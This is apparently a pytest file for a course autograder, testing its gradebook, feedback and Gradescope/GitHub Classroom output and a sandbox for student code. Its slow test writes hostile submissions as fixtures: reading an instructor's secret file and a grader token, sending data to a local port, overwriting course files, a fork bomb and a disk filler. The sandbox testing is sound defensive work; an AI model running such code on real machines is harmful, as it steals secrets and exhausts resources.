"""What grading/grade.py writes for platforms (Gradescope, GitHub Classroom, a gradebook) and
students (feedback), and the sandbox that keeps hostile submissions from the instructor's machine.

    pytest tests/test_grading_formats.py              # the formats on made-up grades (seconds)
    pytest -m slow tests/test_grading_formats.py      # hostile submissions; Gradescope's run_autograder

The slow tests grade real submissions: the reference answers, and the same with a prelude
that attacks the machine when the tests import it (reads the instructor's files and
environment, connects to a port this test listens on, writes into the course, forks until
the limit, fills the disk). Each must be contained, said in its notes, and graded beside the
others, which get their normal marks.
"""
import csv
import glob
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import zipfile

import pytest

from grading import formats, grade, sandbox
from grading.checker import discover_tasks
from grading.course import untouched
from mistakes import REPO, make_submission

try:
    import tomllib
except ModuleNotFoundError:  # Python < 3.11
    import tomli as tomllib

pytestmark = [pytest.mark.grading, pytest.mark.repo]

GRADES = [
    {"student": "alice", "points": 20.0, "max_points": 20.0, "notes": [], "log": "logs/alice.log", "tasks": [
        {"task": "1.1", "where": "template_data_loader.py, ordered_indices()", "points": 10.0, "max_points": 10.0,
         "status": "done", "explanation": "", "details": []},
        {"task": "2.3", "where": "template_trainer.py, reduce_metrics()", "points": 10.0, "max_points": 10.0,
         "status": "done", "explanation": "", "details": []}]},
    {"student": "bob", "points": 10.0, "max_points": 20.0, "notes": ["missing: template_trainer.py"],
     "log": "logs/bob.log", "tasks": [
        {"task": "1.1", "where": "template_data_loader.py, ordered_indices()", "points": 10.0, "max_points": 10.0,
         "status": "done", "explanation": "", "details": []},
        {"task": "2.3", "where": "template_trainer.py, reduce_metrics()", "points": 0.0, "max_points": 10.0,
         "status": "hang", "explanation": "ranks [1] were still running after 15 s: rank 0 skips all_reduce",
         "details": ["rank 1 waits in all_reduce() (template_trainer.py:120)"]}]},
]


# --------------------------------------------------------------------------- fast: made-up grades

def test_gradebook_has_a_row_per_student_a_column_per_task_and_the_roster_ids(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("folder,student_id,email\nbob,s2,bob@uni.edu\nalice,s1,alice@uni.edu\ncarol,s3,c@uni.edu\n")
    path = tmp_path / "gradebook.csv"
    warnings = formats.gradebook(GRADES, ["1.1", "2.3"], str(path), formats.read_roster(str(roster)))
    with open(path) as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == ["folder", "student_id", "email", "Task 1.1", "Task 2.3", "total", "max_points", "notes"]
    assert [(r["folder"], r["student_id"], r["Task 1.1"], r["Task 2.3"], r["total"]) for r in rows] == [
        ("bob", "s2", "10", "0", "10"), ("alice", "s1", "10", "10", "20"), ("carol", "s3", "0", "0", "0")]
    assert (rows[2]["max_points"], rows[2]["notes"]) == ("20", "no submission") and warnings == []
    # a submission that the roster does not list still gets its row, and a warning
    warnings = formats.gradebook(GRADES, ["1.1", "2.3"], str(path), [{"folder": "alice", "student_id": "s1"}])
    assert warnings == ["bob is not in the roster: its row has no student id"]
    with open(path) as f:
        assert [r["folder"] for r in csv.DictReader(f)] == ["alice", "bob"]


def test_a_roster_without_a_folder_column_or_with_a_folder_twice_is_refused(tmp_path):
    (tmp_path / "a.csv").write_text("name,id\nalice,1\n")
    (tmp_path / "b.csv").write_text("folder,id\nalice,1\nalice,2\n")
    with pytest.raises(ValueError, match="'folder' column"):
        formats.read_roster(str(tmp_path / "a.csv"))
    with pytest.raises(ValueError, match="listed twice: alice"):
        formats.read_roster(str(tmp_path / "b.csv"))


def test_feedback_gives_each_task_its_points_status_and_hint_and_tracebacks_only_if_asked(tmp_path):
    text = open(formats.feedback(GRADES[1], str(tmp_path))).read()
    assert "**10 of 20 points.**" in text
    assert "**Task 2.3** (template_trainer.py, reduce_metrics()): 0/10, hang" in text
    assert "rank 0 skips all_reduce" in text and "missing: template_trainer.py" in text
    assert "template_trainer.py:120" not in text  # where it stopped: only with --tracebacks
    with_tracebacks = open(formats.feedback(GRADES[1], str(tmp_path), tracebacks=True)).read()
    assert "template_trainer.py:120" in with_tracebacks and "logs/bob.log" in with_tracebacks


def test_gradescope_results_have_one_test_per_task_with_its_points_and_hint():
    policy = {"gradescope": {"visibility": "after_published"}}
    results = formats.gradescope_results(GRADES[1], policy, sandboxed=False)
    json.dumps(results)  # what Gradescope reads
    assert results["score"] == 10.0 and results["visibility"] == "after_published"
    assert [(t["number"], t["score"], t["max_score"], t["status"]) for t in results["tests"]] == [
        ("1.1", 10.0, 10.0, "passed"), ("2.3", 0.0, 10.0, "failed")]
    assert "rank 0 skips all_reduce" in results["tests"][1]["output"]
    assert all(t["visibility"] == "after_published" and t["name"].startswith("Task ") for t in results["tests"])
    assert "graded without the sandbox" in results["output"]


def _steps(text):
    """{step id: its `with:` settings} of the workflow's command-grader steps, and the reporter's
    {"runners", "env"}: parsed by PyYAML as GitHub would where it is installed (the course does
    not need it), else read line by line."""
    try:
        import yaml
    except ModuleNotFoundError:
        graders = {found[0]: {"command": found[1], "max-score": found[2]} for found in re.findall(
            r"id: (\S+)\n\s+uses: classroom-resources/autograding-command-grader@v1\n.*?\n\s+command: ([^\n]*)\n"
            r".*?max-score: (\S+)", text, re.S)}
        reporter = text.split("autograding-grading-reporter")[1]
        env = re.findall(r"^\s+(\w+): \"\$\{\{steps", reporter, re.M)
        return graders, {"runners": re.search(r"runners: (\S+)", reporter)[1], "env": env}
    steps = yaml.safe_load(text)["jobs"]["run-autograding-tests"]["steps"]
    graders = {s["id"]: s["with"] for s in steps if "autograding-command-grader" in s.get("uses", "")}
    reporter = next(s for s in steps if "autograding-grading-reporter" in s.get("uses", ""))
    return graders, {"runners": reporter["with"]["runners"], "env": list(reporter["env"])}


def test_the_classroom_workflow_lists_every_task_with_its_points():
    """The committed workflow against the course's tasks and points.toml."""
    with open(os.path.join(REPO, ".github", "workflows", "classroom.yml")) as f:
        text = f.read()
    graders, reporter = _steps(text)
    # set-up, install, each task, the reporter: skipped in the course's own repository, which has solutions/
    assert text.count("      if: hashFiles('solutions/__init__.py') == ''\n") == len(graders) + 3
    with open(os.path.join(REPO, "grading", "points.toml"), "rb") as f:
        points = tomllib.load(f)
    tasks = discover_tasks(REPO)
    listed = {}
    for step_id, step in graders.items():
        marker = re.search(r" -m (\S+)", step["command"].replace("python -m pytest", ""))[1]
        listed[marker] = float(step["max-score"])
        assert "--impl template" in step["command"], step
    assert listed == {t.marker: float(points.get("points", {}).get(t.id, points["default"])) for t in tasks}, (
        "the workflow is out of date: run python grading/classroom.py")
    assert reporter["runners"].split(",") == list(graders)
    assert set(reporter["env"]) == {f"{step_id.upper()}_RESULTS" for step_id in graders}


def test_the_committed_classroom_workflow_is_what_the_generator_writes():
    from grading import classroom
    with open(classroom.WORKFLOW) as f:
        assert f.read() == classroom.expected(), "out of date: run python grading/classroom.py and commit it"


def test_a_new_task_gets_a_workflow_step_with_no_change_to_the_grader(tmp_path):
    (tmp_path / "pytest.ini").write_text("[pytest]\nmarkers =\n    task1_1: Task 1.1, template_a.py, a\n"
                                         "    task9_2: Task 9.2, template_tp.py, row-parallel linear\n")
    steps, _ = _steps(formats.classroom_workflow(
        discover_tasks(str(tmp_path)), {"default": 10.0, "points": {"9.2": 25.0}}))
    assert float(steps["task9_2"]["max-score"]) == 25 and "-m task9_2" in steps["task9_2"]["command"]
    assert float(steps["task1_1"]["max-score"]) == 10


def _write(path, text, age=0.0):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    if age:
        os.utime(path, (time.time() - age, time.time() - age))


UNFILLED = 'def f():\n    raise NotImplementedError("Task 1.1: f")\n\n\ndef g():\n    raise NotImplementedError("Task 1.2: g")\n'
HALF = 'def f():\n    return 1\n\n\ndef g():\n    raise NotImplementedError("Task 1.2: g")\n'


def test_duplicate_template_files_are_chosen_by_work_done_or_refused(tmp_path):
    name = "template_a.py"
    # a backup with less work in it, deeper or not: the one with the work is graded, and a note says so
    _write(str(tmp_path / "one" / name), UNFILLED)
    _write(str(tmp_path / "one" / "old" / "repo" / name), HALF)
    files, notes = grade.find_student_files(str(tmp_path / "one"), [name])
    assert files[name].endswith(os.path.join("old", "repo", name))
    assert len(notes) == 1 and "the one with the fewest tasks left" in notes[0] and "old/repo/template_a.py" in notes[0]
    # identical copies are one file: no note
    _write(str(tmp_path / "two" / name), HALF)
    _write(str(tmp_path / "two" / "copy" / name), HALF)
    assert grade.find_student_files(str(tmp_path / "two"), [name]) == ({name: str(tmp_path / "two" / name)}, [])
    # as much work in both: the newest, with a note
    _write(str(tmp_path / "three" / name), HALF, age=3600)
    _write(str(tmp_path / "three" / "backup" / name), HALF.replace("return 1", "return 2"))
    files, notes = grade.find_student_files(str(tmp_path / "three"), [name])
    assert files[name].endswith(os.path.join("backup", name)) and "graded the newest" in notes[0]
    # nothing tells them apart: refused, with what to do
    _write(str(tmp_path / "four" / name), HALF)
    _write(str(tmp_path / "four" / "b" / name), HALF.replace("return 1", "return 2"))
    now = time.time()
    for path in (tmp_path / "four" / name, tmp_path / "four" / "b" / name):
        os.utime(path, (now, now))
    with pytest.raises(grade.Refused, match="leave one copy of template_a.py"):
        grade.find_student_files(str(tmp_path / "four"), [name])


def test_grading_stops_in_one_line_when_the_sandbox_cannot_start(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox, "available", lambda: (False, "bwrap is not installed"))
    (tmp_path / "alice").mkdir()
    assert grade.main([str(tmp_path / "alice"), "--out", str(tmp_path / "out"), "--sandbox", "on"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "bwrap is not installed" in err[0] and "--no-sandbox" in err[0], err
    assert not (tmp_path / "out").exists()


def test_the_sandbox_shows_no_course_home_or_network_and_sets_limits():
    argv, env = sandbox.wrap(["python", "-m", "pytest"], {"SECRET": "x", "PYTHONPATH": "/c"}, copy="/tmp/g/repo",
                             writable=["/tmp/g/run"], limits=sandbox.Limits(processes=99, memory_gb=2, file_gb=1))
    # no address-space limit where there are GPUs: CUDA reserves far more address space than it uses
    on_a_gpu_node = glob.glob("/dev/nvidia*") + glob.glob("/dev/dri")
    memory = [] if on_a_gpu_node else [f"--as={2 * 2 ** 30}"]
    assert argv[:argv.index("--")] == ["prlimit", f"--fsize={2 ** 30}", "--core=0", *memory]
    launch = argv.index(sandbox._LAUNCH)  # the process limit, set inside (and root's drop to a user of its own)
    assert argv[launch + 1] == "99" and argv[launch + 3:] == ["python", "-m", "pytest"]
    for flag in ("--unshare-net", "--unshare-pid", "--die-with-parent", "--clearenv"):
        assert flag in argv
    bound = {argv[i + 2]: argv[i] for i, word in enumerate(argv) if word in ("--bind", "--ro-bind")}
    assert bound["/tmp/g/repo"] == "--ro-bind" and bound["/tmp/g/run"] == "--bind"
    assert [path for kind, path in ((k, p) for p, k in bound.items()) if kind == "--bind"] == ["/tmp/g/run"]
    assert REPO not in bound and os.path.expanduser("~") not in bound and "/" not in bound
    assert "SECRET" not in argv and env == {"PATH": os.environ.get("PATH", "/usr/bin:/bin")}


def test_run_autograder_and_setup_are_in_the_gradescope_zip_and_their_flags_exist(tmp_path):
    from grading.gradescope import make_zip
    names = make_zip.build(str(tmp_path / "autograder.zip"))
    with zipfile.ZipFile(tmp_path / "autograder.zip") as archive:
        modes = {info.filename: info.external_attr >> 16 for info in archive.infolist()}
    assert modes["setup.sh"] & 0o111 and modes["run_autograder"] & 0o111  # at the top, executable
    assert {"course/pytest.ini", "course/grading/grade.py", "course/solutions/template_trainer.py"} <= set(names)
    assert not any(name.startswith(("course/.git/", "course/.venv/", "course/data/")) for name in names)
    for script in ("setup.sh", "run_autograder"):
        subprocess.run(["bash", "-n", os.path.join(REPO, "grading", "gradescope", script)], check=True)
    with open(os.path.join(REPO, "grading", "gradescope", "run_autograder")) as f:
        text = f.read()
    assert "--format gradescope" in text and "--sandbox auto" in text
    args = grade.parse_args(["/autograder/submission", "--format", "gradescope", "--out", "/r", "--sandbox", "auto"])
    assert (args.format, args.sandbox) == ("gradescope", "auto")


# --------------------------------------------------------------------------- slow: real grading

def _python(*args, env=None, timeout=300):
    start = time.monotonic()
    done = subprocess.run([sys.executable, *args], cwd=REPO, capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})
    return done, time.monotonic() - start


def _fingerprint(folder):
    """Every file of the course (not .git's objects): its path, size and content hash."""
    found = {}
    for here, dirs, files in os.walk(folder):
        dirs[:] = [d for d in dirs if d not in (".git", "__pycache__", ".pytest_cache")]
        for name in files:
            path = os.path.join(here, name)
            with open(path, "rb") as f:
                found[os.path.relpath(path, folder)] = hashlib.sha256(f.read()).hexdigest()
    return found


def _hostile(dest, prelude):
    """The reference answers, with `prelude` run when the tests import template_data_loader.py."""
    make_submission(dest)
    path = os.path.join(dest, "template_data_loader.py")
    with open(path) as f:
        text = f.read()
    with open(path, "w") as f:
        f.write(text + "\n\n# ---- hostile\n" + prelude)
    return dest


PROCESSES = 256


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_hostile_submissions_are_contained_and_reported_and_the_others_graded(tmp_path):
    ok, why = sandbox.available()
    if not ok:
        pytest.skip(f"the sandbox cannot start here: {why}")
    secret_dir = tempfile.mkdtemp(dir="/var/tmp" if os.path.isdir("/var/tmp") else None)  # outside /tmp
    secret = os.path.join(secret_dir, "exam-answers.txt")
    with open(secret, "w") as f:
        f.write("THE-INSTRUCTORS-SECRET")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    subs = str(tmp_path / "subs")
    try:
        _hostile(f"{subs}/reader", f"""
import os
raise RuntimeError("stolen: " + open({secret!r}).read() + open({os.path.join(REPO, 'grading', 'points.toml')!r}).read()
                   + os.environ.get("GRADER_TOKEN", "no token"))
""")
        _hostile(f"{subs}/caller", f"""
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"THE-SUBMISSIONS-DATA")
""")
        _hostile(f"{subs}/writer", f"""
import os
errors = []
for path in [os.path.join(os.path.dirname(os.path.abspath(__file__)), "tests", "conftest.py"),
             {os.path.join(REPO, 'HACKED.txt')!r}, {os.path.join(REPO, 'tests', 'conftest.py')!r}]:
    try:
        with open(path, "a") as f:
            f.write("# hacked")
    except OSError as error:
        errors.append(str(error))
raise RuntimeError("; ".join(errors))
""")
        _hostile(f"{subs}/forker", """
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        children += 1
except OSError as error:
    raise RuntimeError(f"fork bomb stopped after {children} processes: {error}")
""")
        _hostile(f"{subs}/filler", """
with open("/tmp/fill", "wb") as f:
    while True:
        f.write(bytes(2 ** 24))
""")
        make_submission(f"{subs}/honest")
        points = tmp_path / "points.toml"
        points.write_text(f"default = 10\n[limits]\ntest_seconds = 60\nretries = 0\nsubmission_seconds = 150\n"
                          f"[sandbox]\nprocesses = {PROCESSES}\nfile_gb = 0.05\ntmp_gb = 0.1\n")
        roster = tmp_path / "roster.csv"
        roster.write_text("folder,student_id\nhonest,s1\nreader,s2\ncaller,s3\nwriter,s4\nforker,s5\nfiller,s6\n"
                          "absent,s7\n")
        before = _fingerprint(REPO)
        out = str(tmp_path / "out")
        names = ["honest", "reader", "caller", "writer", "forker", "filler"]
        done, seconds = _python("grading/grade.py", *[f"{subs}/{n}" for n in names], "--tasks", "1.1",
                                "--out", out, "--points", str(points), "--jobs", "3", "--roster", str(roster),
                                env={"GRADER_TOKEN": "THE-GRADERS-TOKEN"})
        assert done.returncode == 0, done.stdout + done.stderr
        with pytest.raises(BlockingIOError):
            listener.accept()  # no connection came through
        assert _fingerprint(REPO) == before, "the grader or a submission changed the course"
        with open(secret) as f:
            assert f.read() == "THE-INSTRUCTORS-SECRET"
    finally:
        listener.close()
        os.remove(secret)
        os.rmdir(secret_dir)
    with open(os.path.join(out, "grades.json")) as f:
        grades = {g["student"]: g for g in json.load(f)["submissions"]}
    logs = {name: open(os.path.join(out, "logs", f"{name}.log")).read() for name in names}
    everything = done.stdout + done.stderr + "".join(logs.values()) + open(os.path.join(out, "grades.json")).read()
    for stolen in ("THE-INSTRUCTORS-SECRET", "THE-GRADERS-TOKEN", "[limits]"):
        assert stolen not in everything, f"{stolen} got out of the sandbox"
    assert grades["honest"]["points"] == 10 and grades["honest"]["notes"] == [], grades["honest"]
    notes = {name: " ".join(grades[name]["notes"]) for name in names}
    assert "hidden by the sandbox" in notes["reader"] and secret in notes["reader"], notes["reader"]
    assert "a connection was refused" in notes["caller"], notes["caller"]
    # its own copy of the course is read-only (and not its user's, when the grader is root)
    assert ("read-only" in notes["writer"] or "Permission denied" in notes["writer"]) and (
        "hidden by the sandbox" in notes["writer"]), notes["writer"]
    assert "process limit" in notes["forker"], notes["forker"]
    bomb = grades["forker"]["tasks"][0]["explanation"]
    forked = int(bomb.split("stopped after ")[1].split()[0])
    assert forked < PROCESSES, bomb
    assert "file size limit" in notes["filler"], notes["filler"]
    for name in names[1:]:
        assert grades[name]["points"] == 0 and not grades[name]["timed_out"], grades[name]
    with open(os.path.join(out, "gradebook.csv")) as f:
        rows = {r["folder"]: r for r in csv.DictReader(f)}
    assert (rows["honest"]["student_id"], rows["honest"]["Task 1.1"]) == ("s1", "10")
    assert (rows["absent"]["student_id"], rows["absent"]["total"], rows["absent"]["notes"]) == ("s7", "0", "no submission")
    feedback = open(os.path.join(out, "feedback", "forker.md")).read()
    assert "fork bomb stopped after" in feedback and "process limit" in feedback
    print(f"graded 6 submissions in {seconds:.0f} s")


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_gradescope_run_autograder_writes_results_json(tmp_path):
    """The uploaded zip, unpacked as Gradescope does, run on a submission of template files."""
    from grading.gradescope import make_zip
    root = tmp_path / "autograder"
    make_zip.build(str(tmp_path / "autograder.zip"))
    with zipfile.ZipFile(tmp_path / "autograder.zip") as archive:
        archive.extractall(root / "source")
    os.chmod(root / "source" / "run_autograder", 0o755)
    submission = make_submission(str(tmp_path / "student"))
    (root / "submission").mkdir()
    for name in os.listdir(submission):  # students upload their template files
        if name.startswith("template_"):
            os.replace(os.path.join(submission, name), root / "submission" / name)
    with open(root / "submission" / "template_trainer.py") as f:
        trainer = f.read()
    # Task 2 not started: the template as the course hands it out, whatever state this clone's own is in
    (root / "submission" / "template_trainer.py").write_text(untouched("template_trainer.py"))
    start = time.monotonic()
    done = subprocess.run(["bash", str(root / "source" / "run_autograder")], capture_output=True, text=True,
                          timeout=240, env={**os.environ, "AUTOGRADER": str(root), "GRADE_ARGS": "--tasks 1.1 2.3"})
    assert done.returncode == 0, done.stdout + done.stderr
    with open(root / "results" / "results.json") as f:
        results = json.load(f)
    assert results["score"] == 10
    tests = {t["number"]: t for t in results["tests"]}
    assert (tests["1.1"]["score"], tests["1.1"]["max_score"], tests["1.1"]["status"]) == (10, 10, "passed")
    assert (tests["2.3"]["score"], tests["2.3"]["status"]) == (0, "failed")
    assert "not started" in tests["2.3"]["output"] and "NotImplementedError" in tests["2.3"]["output"]
    assert trainer not in json.dumps(results)
    print(f"run_autograder graded 2 tasks in {time.monotonic() - start:.0f} s")
